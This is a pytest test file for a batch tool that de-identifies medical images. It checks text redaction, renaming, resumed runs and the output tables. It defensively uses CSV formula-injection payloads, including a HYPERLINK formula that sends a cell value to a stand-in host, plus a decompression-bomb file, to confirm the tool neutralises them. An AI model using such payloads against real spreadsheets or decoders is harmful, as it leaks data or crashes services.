"""Runs over folders: what is found, named, written, done again or left alone, and what an interruption leaves."""

import json
import os
import re
import stat
import unicodedata
from pathlib import Path

import numpy as np
import pytest
import zxingcpp
from bombs import bomb_of_deflated_elements
from PIL import Image
from planted import ink, write
from reading_samples import color_image
from small_runs import (
    Run,
    assert_consistent,
    dicom,
    every_kind,
    files_below,
    frames_of,
    leftovers,
    picture,
    save,
    shared_files,
    table,
)

from PyLogikSlicerLib.batch import run
from PyLogikSlicerLib.core.errors import UsageError
from PyLogikSlicerLib.core.masking import polygon_mask
from PyLogikSlicerLib.core.options import VARIANTS, Options
from PyLogikSlicerLib.detection.engines import Engine
from PyLogikSlicerLib.reading import open_stacks
from PyLogikSlicerLib.writing.formats import FORMATS, decode
from PyLogikSlicerLib.writing.output_folder import TEXT_COLUMNS, OutputFolder, file_sha256

PNG = FORMATS["png"]


@pytest.fixture(scope="module")
def kinds(tmp_path_factory):
    """A folder with an input of every kind, and their frame counts by name."""
    folder = tmp_path_factory.mktemp("kinds")
    counts = every_kind(folder)
    for number, path in enumerate(sorted(folder.iterdir())):
        os.chmod(path, 0o444 if number % 2 else 0o640)
        os.utime(path, (1_000_000_000, 1_000_000_000 + number))
    return folder, counts


@pytest.mark.parametrize("variant", [*VARIANTS, "find-txt"])
def test_every_variant_runs_on_every_kind_of_input_writes_every_frame_and_leaves_the_originals_alone(engine, kinds, tmp_path, variant):
    folder, counts = kinds
    before = _state(folder)
    chosen = {"images": False} if variant == "find-txt" else {"variant": variant}
    done = Run(folder, tmp_path / "out", engine, **chosen)
    assert done.statuses == ["done"] * len(counts), done.events
    assert {name: (image["status"], image["frames"], image["frames_examined"]) for name, image in done.images.items()} == {
        name: ("done", count, count) for name, count in counts.items()
    }
    written = 0 if variant == "find-txt" else 1
    files = files_below(tmp_path / "out" / "images")
    assert set(files) == {f"{name}/{name}_{n:04d}.jpg" for name, count in counts.items() for n in range(count * written)}
    assert all(image["redacted"] >= 1 for image in done.images.values())
    assert all((image["roi"] is None) == (variant in ("deid", "find-txt")) for image in done.images.values())
    assert_consistent(tmp_path / "out")
    assert _state(folder) == before
    assert not {content for content, *_ in before.values()} & set(files_below(tmp_path / "out").values())


def _state(folder):
    """All of the originals that a run could touch; a run that has opened one for writing changes its time."""
    paths = sorted(folder.rglob("*"))
    return {path: (path.read_bytes(), path.stat().st_mtime_ns, path.stat().st_mode, path.stat().st_ino) for path in paths}


@pytest.mark.parametrize("count", [1, 2, 5])
def test_every_frame_comes_out_the_last_one_too_and_differs_only_where_it_is_masked(engine, tmp_path, count):
    frames = [picture(seed, "AB 12" if seed % 2 else "") for seed in range(count)]
    dicom(tmp_path / "in" / "cine.dcm", frames)
    done = Run(tmp_path / "in", tmp_path / "out", engine, format="png")
    assert done.images["cine"]["verification"]["files"] == done.images["cine"]["frames"] == count
    written = [decode(tmp_path / "out" / "images" / "cine" / f"cine_{n:04d}.png", PNG) for n in range(count)]
    places = [
        ([float(side) for side in row["polygon"].replace(",", " ").split()], int(row["frame_first"]), int(row["frame_last"]))
        for row in table(tmp_path / "out", "text")
    ]
    for number, (source, output) in enumerate(zip(frames, written, strict=True)):
        polygons = [list(zip(sides[::2], sides[1::2], strict=True)) for sides, first, last in places if first <= number <= last]
        masked = polygon_mask(polygons, *source.shape)
        assert np.array_equal(output, np.where(masked, 0, source))
        assert not masked.all()
    assert not (tmp_path / "out" / "images" / "cine" / f"cine_{count:04d}.png").exists()


def test_single_images_color_stills_and_deep_ones_keep_their_pixels(engine, tmp_path):
    gray = picture(1)
    sources = {"gray": gray, "color": np.stack([gray, gray // 2, gray // 3], axis=2), "deep": gray.astype(np.uint16) * 200}
    for name, image in sources.items():
        save(tmp_path / "in" / f"{name}.png", image)
    done = Run(tmp_path / "in", tmp_path / "out", engine, format="png")
    assert done.statuses == ["done"] * 3
    for name, source in sources.items():
        output = decode(tmp_path / "out" / "images" / name / f"{name}_0000.png", PNG)
        pixels = done.images[name]["pixels"]
        assert pixels["exact"]
        stored = (output >> pixels.get("shift", 0)) + pixels.get("offset", 0) if name == "deep" else output
        assert stored.shape == source.shape
        assert ((stored == source) | (output == 0)).all()


@pytest.mark.parametrize("channel", [0, 1, 2], ids=["red", "green", "blue"])
def test_text_on_any_frame_and_of_any_color_is_gone_and_only_from_there(engine, tmp_path, channel):
    plain = [np.stack([picture(3 + 8 * number, rows=160, columns=220)] * 3, axis=2) for number in range(5)]
    frames = [frame.copy() for frame in plain]
    for number in (1, 4):
        frames[number][..., channel] = write(frames[number][..., channel], "DOE 4711", 60, 2)
    dicom(tmp_path / "in" / "cine.dcm", frames)
    Run(tmp_path / "in", tmp_path / "out", engine, format="png")
    for number, (source, clean) in enumerate(zip(frames, plain, strict=True)):
        output = decode(tmp_path / "out" / "images" / "cine" / f"cine_{number:04d}.png", PNG)
        assert (output[ink(source, clean)] == 0).all()
        assert ((output == source) | (output == 0)).all() and (output == source).mean() > 0.6
    spans = [(int(row["frame_first"]), int(row["frame_last"])) for row in table(tmp_path / "out", "text") if "DOE" in row["text"]]
    assert all(any(first <= number <= last for first, last in spans) for number in (1, 4))


def test_small_text_on_a_large_screen_is_gone(engine, tmp_path):
    plain = picture(3, rows=700, columns=900)
    image = plain
    for x, y in ((2, 2), (780, 4), (400, 340), (4, 680), (760, 682)):
        image = write(image, "DOE JANE 471", x, y, height=9)
    save(tmp_path / "in" / "a.png", image)
    Run(tmp_path / "in", tmp_path / "out", engine, format="png")
    output = decode(tmp_path / "out" / "images" / "a" / "a_0000.png", PNG)
    assert (output[ink(image, plain)] == 0).all()
    assert (output == image).mean() > 0.9


def test_jpeg_says_its_largest_error_and_is_never_called_exact(engine, tmp_path):
    save(tmp_path / "in" / "a.png", picture(1))
    (image,) = Run(tmp_path / "in", tmp_path / "out", engine).report["images"]
    assert image["verification"]["largest_error"] > 0 and not image["pixels"]["exact"]


def test_folders_are_searched_to_their_end_and_each_file_is_done_once(engine, tmp_path):
    for place in ("a.png", "sub/b.png", "sub/deep/er/c.png"):
        save(tmp_path / "in" / place, picture(1))
    os.symlink(tmp_path / "in" / "a.png", tmp_path / "in" / "link.png")
    os.symlink(tmp_path / "in", tmp_path / "in" / "sub" / "loop")
    os.symlink(tmp_path / "in" / "itself", tmp_path / "in" / "itself")
    done = Run([tmp_path / "in", tmp_path / "in" / "a.png"], tmp_path / "out", engine, images=False)
    assert sorted(done.images) == ["a", "b", "c"]
    assert done.statuses.count("done") == 3 and done.statuses.count("skipped") == 1
    assert "does not exist" in done.reason() or "cannot be opened" in done.reason()


# A second run over the same output


@pytest.fixture
def finished(engine, tmp_path):
    """A folder of two images, one with text, that was de-identified: (input, output)."""
    save(tmp_path / "in" / "a.png", picture(1, "AB 12"))
    save(tmp_path / "in" / "b.png", picture(2))
    assert Run(tmp_path / "in", tmp_path / "out", engine).statuses == ["done", "done"]
    return tmp_path / "in", tmp_path / "out"


def _times(folder):
    return {path: path.stat().st_mtime_ns for path in folder.rglob("*") if path.is_file()}


def test_a_second_run_does_nothing_again(engine, finished):
    source, output = finished
    before, times = files_below(output), _times(output / "images")
    again = Run(source, output, engine)
    assert again.worked_on == set() and again.statuses == ["done", "done"]
    assert files_below(output) == before and _times(output / "images") == times


def test_the_same_input_is_known_again_from_another_folder(engine, finished, monkeypatch):
    source, output = finished
    monkeypatch.chdir(source)
    assert Run(Path("."), output, engine).worked_on == set()


def _change_source(source, output):
    save(source / "a.png", picture(3))


def _tamper(output_path, change):
    return lambda source, output: change(output / output_path)


def _edit(path):
    path.write_bytes(path.read_bytes()[:-1] + b"x")


def _drop_text_rows(path):
    path.write_text(path.read_text().splitlines()[0] + "\n")


@pytest.mark.parametrize(
    "change",
    [
        _change_source,
        _tamper("images/a/a_0000.jpg", _edit),
        _tamper("images/a/a_0000.jpg", lambda path: path.unlink()),
        _tamper("phi/text.csv", _drop_text_rows),
    ],
    ids=["source changed", "output edited", "output deleted", "text rows gone"],
)
def test_only_what_changed_is_done_again_under_its_old_name(engine, finished, change):
    source, output = finished
    change(source, output)
    again = Run(source, output, engine)
    assert again.worked_on == {1} and set(again.images) == {"a", "b"}
    assert_consistent(output)


@pytest.mark.parametrize("table_file", ["report.json", "phi/log.csv"])
def test_without_its_tables_a_run_does_all_again_under_the_old_names(engine, finished, table_file):
    source, output = finished
    (output / table_file).unlink()
    again = Run(source, output, engine)
    assert again.worked_on == {1, 2} and set(again.images) == {"a", "b"}
    assert_consistent(output)


@pytest.mark.parametrize("options", [{"overwrite": True}, {"format": "png"}, {"keep": "measurements"}, {"variant": "deid-us"}])
def test_overwrite_and_other_options_do_all_again(engine, finished, options):
    source, output = finished
    again = Run(source, output, engine, **options)
    assert again.worked_on == {1, 2} and set(again.images) == {"a", "b"}
    assert_consistent(output)


def test_what_an_interrupted_run_with_other_options_did_not_reach_is_not_taken_for_done(engine, finished):
    source, output = finished
    with pytest.raises(Interrupt):
        run([source], output, Options(format="png", rename=False), _interrupt_at(2), engine=engine)
    assert Run(source, output, engine, format="png").worked_on == {2}
    assert {path.suffix for path in (output / "images").rglob("*_0000*")} == {".png"}


def test_an_output_that_holds_two_runs_with_different_options_knows_which_is_which(engine, tmp_path):
    first, second = save(tmp_path / "1" / "a.png", picture(1)), save(tmp_path / "2" / "b.png", picture(2))
    Run(first, tmp_path / "out", engine, images=False)
    Run(second, tmp_path / "out", engine, variant="deid")
    assert Run(first, tmp_path / "out", engine, variant="deid").worked_on == {1}


def test_a_source_that_fails_now_leaves_no_output_of_before(engine, finished):
    source, output = finished
    (source / "a.png").write_bytes((source / "a.png").read_bytes()[:600])
    again = Run(source, output, engine)
    assert again.statuses == ["skipped", "done"] and set(files_below(output / "images")) == {"b/b_0000.jpg"}
    assert_consistent(output)
    assert Run(source, output, engine).statuses == ["skipped", "done"]


def test_pages_that_are_gone_from_the_source_are_gone_from_the_output(engine, tmp_path):
    small, large = Image.fromarray(picture(1)), Image.fromarray(picture(2, rows=136))
    (tmp_path / "in").mkdir()
    small.save(tmp_path / "in" / "a.tif", save_all=True, append_images=[large])
    assert set(Run(tmp_path / "in", tmp_path / "out", engine).images) == {"a", "a-2"}
    small.save(tmp_path / "in" / "a.tif")
    assert set(Run(tmp_path / "in", tmp_path / "out", engine).images) == {"a"}
    assert_consistent(tmp_path / "out")


# Interruptions


class Interrupt(Exception):
    """What a caller raises to cancel; an ordinary exception must come through as well as KeyboardInterrupt does."""


def _interrupt_at(number, stage="verify"):
    def progress(source, sources, progress):
        if source == number and progress.stage == stage:
            raise Interrupt

    return progress


@pytest.mark.parametrize("stage", ["examine", "write", "verify"])
def test_a_canceled_run_leaves_nothing_half_written_and_the_next_one_completes_it(engine, tmp_path, stage):
    for name in "abc":
        save(tmp_path / "in" / f"{name}.png", picture(ord(name)))
    with pytest.raises(Interrupt):
        run([tmp_path / "in"], tmp_path / "out", Options(rename=False), _interrupt_at(2, stage), engine=engine)
    assert_consistent(tmp_path / "out")
    assert [(row["name"], row["status"]) for row in table(tmp_path / "out", "log")] == [("a", "done"), ("", "failed")]
    rest = Run(tmp_path / "in", tmp_path / "out", engine)
    assert rest.worked_on == {2, 3} and rest.report["counts"] == {"done": 3, "skipped": 0, "failed": 0}
    assert_consistent(tmp_path / "out")


def test_an_input_of_which_only_the_first_image_was_finished_is_done_again(engine, tmp_path):
    (tmp_path / "in").mkdir()
    first, second = Image.fromarray(picture(1)), Image.fromarray(picture(2, rows=136))
    first.save(tmp_path / "in" / "a.tif", save_all=True, append_images=[second])
    stages = []

    def at_the_second_image(source, sources, progress):
        stages.append(progress.stage)
        if stages.count("examine") == 2:
            raise Interrupt

    with pytest.raises(Interrupt):
        run([tmp_path / "in"], tmp_path / "out", Options(rename=False), at_the_second_image, engine=engine)
    assert set(Run(tmp_path / "in", tmp_path / "out", engine).images) == {"a", "a-2"}
    assert_consistent(tmp_path / "out")


# Names


def test_inputs_of_the_same_stem_overwrite_nothing(engine, tmp_path):
    composed = unicodedata.normalize("NFC", "Größe")
    stems = ["1/scan.png", "2/scan.png", "3/SCAN.PNG", f"4/{composed}.png", f"5/{unicodedata.normalize('NFD', composed)}.png"]
    for number, place in enumerate(stems):
        save(tmp_path / "in" / place, picture(number))
    done = Run(tmp_path / "in", tmp_path / "out", engine, format="png")
    folded = [unicodedata.normalize("NFC", name).casefold() for name in done.images]
    assert sorted(folded) == ["grösse", "grösse-2", "scan", "scan-2", "scan-3"]
    for row in table(tmp_path / "out", "crosswalk"):
        (file,) = (tmp_path / "out" / "images" / row["name"]).iterdir()
        source = frames_of(open_stacks(tmp_path / row["source"])[0])[0]
        output = decode(file, PNG)
        assert ((output == source) | (output == 0)).all() and (output == source).mean() > 0.8


def test_rename_gives_random_names_and_tells_nothing_of_the_source_outside_phi(engine, tmp_path):
    places = ["Zebedee_Quillfeather/scan.png", "Zebedee_Quillfeather/ultra sound.png"]
    for number, place in enumerate(places):
        save(tmp_path / "in" / place, picture(number))
    done = Run(tmp_path / "in", tmp_path / "out", engine, rename=True)
    assert len(done.images) == 2 and all(re.fullmatch("[A-Z0-9]{10}", name) for name in done.images)
    for path, content in shared_files(tmp_path / "out").items():
        for secret in ("zebedee", "quillfeather", "scan", "ultra sound", str(tmp_path)):
            assert secret not in path.lower() and secret.encode() not in content.lower()
    sources = {row["source"]: (row["name"], row["sha256"]) for row in table(tmp_path / "out", "crosswalk")}
    for place in places:
        name, digest = sources[str(tmp_path / "in" / place)]
        assert name in done.images and digest == file_sha256(tmp_path / "in" / place)
    again = Run(tmp_path / "in", tmp_path / "out", engine, rename=True)
    assert again.worked_on == set() and set(again.images) == set(done.images)


def test_rename_after_a_run_without_it_takes_the_old_names_away(engine, finished):
    source, output = finished
    again = Run(source, output, engine, rename=True)
    assert all(re.fullmatch("[A-Z0-9]{10}", name) for name in again.images) and len(again.images) == 2
    assert_consistent(output)
    back = Run(source, output, engine)
    assert set(back.images) == {"a", "b"}
    assert_consistent(output)


@pytest.mark.parametrize("stem", ["QUILLFEATHER_us", "us doe-4711-0815", "quillfeatherzebedee"])
def test_a_stem_that_tells_who_it_is_fails_with_the_advice_and_without_telling(engine, tmp_path, stem):
    dicom(tmp_path / "in" / f"{stem}.dcm", [picture(1)], PatientName="Quillfeather^Zebedee", PatientID="4711-0815")
    failed = Run(tmp_path / "in", tmp_path / "out", engine)
    assert failed.statuses == ["failed"] and "--rename" in failed.reason() and re.search("PatientName|PatientID", failed.reason())
    assert not files_below(tmp_path / "out" / "images")
    everything = json.dumps([failed.report, failed.events]) + repr(shared_files(tmp_path / "out"))
    assert not re.search("quill|feather|zebedee|4711|doe", everything, re.IGNORECASE)
    log = table(tmp_path / "out", "log")
    assert [row["status"] for row in log] == ["failed"] and [image["name"] for image in failed.report["images"]] == [log[0]["name"]]
    renamed = Run(tmp_path / "in", tmp_path / "out", engine, rename=True)
    assert renamed.statuses == ["done"] and renamed.report["counts"] == {"done": 1, "skipped": 0, "failed": 0}


def test_text_alone_is_written_for_a_telling_stem_but_not_under_it(engine, tmp_path):
    dicom(tmp_path / "in" / "quillfeather.dcm", [picture(1)], PatientName="Quillfeather^Zebedee")
    done = Run(tmp_path / "in", tmp_path / "out", engine, images=False)
    assert done.statuses == ["done"] and "quill" not in repr(shared_files(tmp_path / "out")).lower()


# What stands where


def _mode(path):
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.skipif(os.name == "nt", reason="Windows has no modes")
def test_phi_is_for_the_user_alone_and_images_can_be_shared(engine, tmp_path):
    save(tmp_path / "in" / "a.png", picture(1, "AB 12"))
    (tmp_path / "out" / "phi").mkdir(parents=True)
    os.chmod(tmp_path / "out" / "phi", 0o755)
    before = os.umask(0)
    try:
        Run(tmp_path / "in", tmp_path / "out", engine)
    finally:
        os.umask(before)
    assert _mode(tmp_path / "out" / "phi") == 0o700
    assert {path.name: _mode(path) for path in (tmp_path / "out" / "phi").iterdir()} == dict.fromkeys(
        (".lock", "text.csv", "crosswalk.csv", "log.csv"), 0o600
    )
    assert _mode(tmp_path / "out" / "images" / "a") == 0o755


def test_the_report_and_the_tables_have_the_columns_that_others_rely_on(engine, tmp_path):
    source = dicom(tmp_path / "in" / "cine.dcm", [picture(1, "AB 12"), picture(2, "AB 12")])
    (tmp_path / "in" / "bad.dcm").write_bytes(b"nothing")
    done = Run(tmp_path / "in", tmp_path / "out", engine, variant="deid-us", threshold=3)
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report == done.report
    assert {"version", "options", "images", "counts", "packages", "python"} <= set(report)
    assert report["options"]["variant"] == "deid-us" and report["options"]["threshold"] == 3 and "ppocr" in report["options"]["readers"]
    assert report["counts"] == {"done": 1, "skipped": 1, "failed": 0}
    (image,) = report["images"]
    folder = tmp_path / "out" / "images" / "cine"
    assert {key: image[key] for key in ("name", "status", "frames", "frames_examined")} == {
        **{"name": "cine", "status": "done"},
        **{"frames": 2, "frames_examined": 2},
    }
    assert image["regions"] == image["redacted"] == len(table(tmp_path / "out", "text")) >= 1
    x0, y0, x1, y1 = image["roi"]["crop"]
    assert 0 <= x0 < x1 <= 128 and 0 <= y0 < y1 <= 128 and {"shape", "polygons"} <= set(image["roi"])
    assert image["bytes_source"] == source.stat().st_size
    assert image["bytes_written"] == sum(file.stat().st_size for file in folder.iterdir())
    assert image["files"] == {f"images/cine/{file.name}": file_sha256(file) for file in folder.iterdir()}
    assert set(image["seconds"]) == {"examine", "roi", "write", "verify"} and all(s >= 0 for s in image["seconds"].values())
    assert image["verification"]["verdict"] == "passed" and image["verification"]["readable_residues"] == 0
    assert sum(image["coverage"].values()) == 2
    headers = {name: (tmp_path / "out" / "phi" / f"{name}.csv").read_text().splitlines()[0] for name in ("text", "crosswalk", "log")}
    assert headers["text"] == "name,source,frame_first,frame_last,x0,y0,x1,y1,polygon,text,confidence,engine,reason,decision"
    assert headers["crosswalk"] == "name,source,sha256"
    assert headers["log"] == "source,name,status,reason"
    assert {(row["source"].rsplit("/", 1)[1], row["status"]) for row in table(tmp_path / "out", "log")} == {
        ("cine.dcm", "done"),
        ("bad.dcm", "skipped"),
    }


def test_boxes_in_the_table_are_pixels_of_the_source(engine, tmp_path):
    save(tmp_path / "in" / "a.png", picture(1, "AB 12", rows=140, columns=200))
    Run(tmp_path / "in", tmp_path / "out", engine, variant="deid-us")
    (row,) = [row for row in table(tmp_path / "out", "text") if "12" in row["text"]]
    # The text was written with its upper left corner at (8, rows - 24).
    assert int(row["x0"]) <= 10 and 105 <= int(row["y0"]) <= 118 and int(row["y1"]) >= 128
    assert row["decision"] == "redact" and row["engine"] and row["reason"] and 0 < float(row["confidence"]) <= 1


def test_the_same_run_gives_the_same_output(engine, tmp_path):
    dicom(tmp_path / "in" / "cine.dcm", [picture(1, "AB 12"), picture(2)])
    for output in ("1", "2"):
        Run(tmp_path / "in", tmp_path / output, engine)
    assert files_below(tmp_path / "1" / "images") == files_below(tmp_path / "2" / "images")
    assert table(tmp_path / "1", "text") == table(tmp_path / "2", "text")


def test_what_others_put_into_the_output_folder_stays(engine, tmp_path):
    theirs = save(tmp_path / "out" / "images" / "a" / "a_0000.jpg", picture(7)).read_bytes()
    save(tmp_path / "in" / "a.png", picture(1))
    done = Run(tmp_path / "in", tmp_path / "out", engine)
    assert set(done.images) == {"a-2"} and (tmp_path / "out" / "images" / "a" / "a_0000.jpg").read_bytes() == theirs


@pytest.mark.parametrize("content", ["{}", "[]", "not JSON", '{"images": 3, "version": "1"}', '{"images": [{}], "version": "1"}'])
def test_a_report_of_another_program_is_not_overwritten(engine, tmp_path, content):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "report.json").write_text(content)
    save(tmp_path / "in" / "a.png", picture(1))
    with pytest.raises(UsageError, match=r"report\.json"):
        Run(tmp_path / "in", tmp_path / "out", engine)
    assert (tmp_path / "out" / "report.json").read_text() == content


def test_two_runs_never_write_into_one_folder_at_a_time(engine, tmp_path):
    save(tmp_path / "in" / "a.png", picture(1))
    with OutputFolder(tmp_path / "out"), pytest.raises(UsageError, match="another run"):
        Run(tmp_path / "in", tmp_path / "out", engine)
    assert Run(tmp_path / "in", tmp_path / "out", engine).statuses == ["done"]


def test_the_current_directory_is_left_alone(engine, tmp_path):
    save(tmp_path / "in" / "a.png", picture(1))
    before = os.getcwd()
    Run(tmp_path / "in", tmp_path / "out", engine, images=False)
    assert os.getcwd() == before and not leftovers(tmp_path / "out")


@pytest.mark.parametrize("text", ['=HYPERLINK("http://a.example/?"&A1;"open")', "  +1-2|cmd", "\uff1d1+1", "@SUM(1)", "ID 4711;=1+1"])
def test_what_a_qr_code_says_is_no_formula_in_the_table_and_is_known_again(engine, tmp_path, text):
    code = zxingcpp.create_barcode(text, zxingcpp.barcode_format_from_str("QR Code"))
    modules = np.repeat(np.repeat(np.array(code.to_image(scale=1)), 4, axis=0), 4, axis=1)
    image = picture(1, rows=240, columns=320)
    image[20 : 20 + modules.shape[0], 30 : 30 + modules.shape[1]] = modules
    save(tmp_path / "in" / "=scan.png", image)
    done = Run(tmp_path / "in", tmp_path / "out", engine, images=False)
    read = [row["text"] for row in table(tmp_path / "out", "text")]
    assert any(text.strip().split(";")[-1] in cell for cell in read), read
    # A cell begins at the start and, for some programs, at a semicolon.
    parts = [part.strip() for row in table(tmp_path / "out", "text") for cell in row.values() for part in cell.split(";")]
    assert not any(re.match(r"[=+@\uff1d]", part) for part in parts)
    assert {row["name"] for row in table(tmp_path / "out", "text")} == {"'=scan"} and set(done.images) == {"=scan"}
    with OutputFolder(tmp_path / "out") as folder:
        rows = folder.read_table("text", TEXT_COLUMNS)
    assert any(text.strip() in row["text"] and row["name"] == "=scan" for row in rows)
    assert Run(tmp_path / "in", tmp_path / "out", engine, images=False).worked_on == set()


def test_with_stack_the_stills_of_a_folder_are_the_frames_of_one_image(engine, tmp_path):
    for number in (1, 2, 10):
        save(tmp_path / "in" / "series" / f"f{number}.png", picture(number))
    done = Run(tmp_path / "in", tmp_path / "out", engine, stack=True, format="png")
    assert {name: image["frames"] for name, image in done.images.items()} == {"series": 3}
    last = decode(tmp_path / "out" / "images" / "series" / "series_0002.png", PNG)
    assert (last == picture(10)).mean() > 0.8
    assert Run(tmp_path / "in", tmp_path / "out", engine, stack=True, format="png").worked_on == set()
    save(tmp_path / "in" / "series" / "f10.png", picture(11))
    assert Run(tmp_path / "in", tmp_path / "out", engine, stack=True, format="png").worked_on == {1}


def test_finding_text_withdraws_no_published_images(engine, tmp_path):
    """The same folder, and the same files: their images were published with the text that was found in them."""
    source = save(tmp_path / "in" / "a.png", write(color_image(), "DOE JANE", 30, 40, (255, 255, 255)))
    images = shared_files(Run(source.parent, tmp_path / "out", engine, format="png").output)
    found = Run(source.parent, tmp_path / "out", engine, images=False)
    assert found.statuses == ["done"] and "phi/text.csv" in found.events[0][2]
    assert shared_files(tmp_path / "out").keys() == images.keys() and images
    save(source, write(color_image(), "ROE JOHN", 30, 40, (255, 255, 255)))
    changed = Run(source.parent, tmp_path / "out", engine, images=False)
    assert changed.statuses == ["failed"] and "another folder" in changed.events[0][2]
    assert shared_files(tmp_path / "out").keys() == images.keys()
    assert_consistent(tmp_path / "out")


def test_results_of_other_weights_are_made_again(engine, tmp_path):
    source = save(tmp_path / "in" / "a.png", color_image())
    Run(source.parent, tmp_path / "out", engine)
    assert Run(source.parent, tmp_path / "out", engine).worked_on == set()

    class WithOtherWeights:
        """The glyph network after further training, under the same name."""

        def __init__(self, reader):
            self._reader, self.weights_digest = reader, "0123456789abcdef"

        def __getattr__(self, name):
            return getattr(self._reader, name)

    readers = (engine.readers[0], *map(WithOtherWeights, engine.readers[1:]))
    assert Run(source.parent, tmp_path / "out", Engine(readers)).worked_on == {1}


def test_a_file_that_brings_the_decoder_down_costs_itself_and_is_not_tried_again_unless_asked(engine, tmp_path):
    (tmp_path / "in").mkdir()
    for name in ("a.png", "c.png"):
        save(tmp_path / "in" / name, color_image())
    bomb_of_deflated_elements(tmp_path / "in" / "b.dcm", 1 << 30)
    limits = {"memory_limit": 0.5}
    first = Run(tmp_path / "in", tmp_path / "out", engine, **limits)
    assert first.statuses == ["done", "failed", "done"] and "--memory-limit" in first.reason()
    again = Run(tmp_path / "in", tmp_path / "out", engine, **limits)
    assert again.worked_on == set() and "--overwrite" in again.reason() and "memory" in again.reason()
    asked = Run(tmp_path / "in" / "b.dcm", tmp_path / "out", engine, overwrite=True)
    assert asked.statuses == ["done"], "with the memory that it takes it is an image like any other"
    assert_consistent(tmp_path / "out")
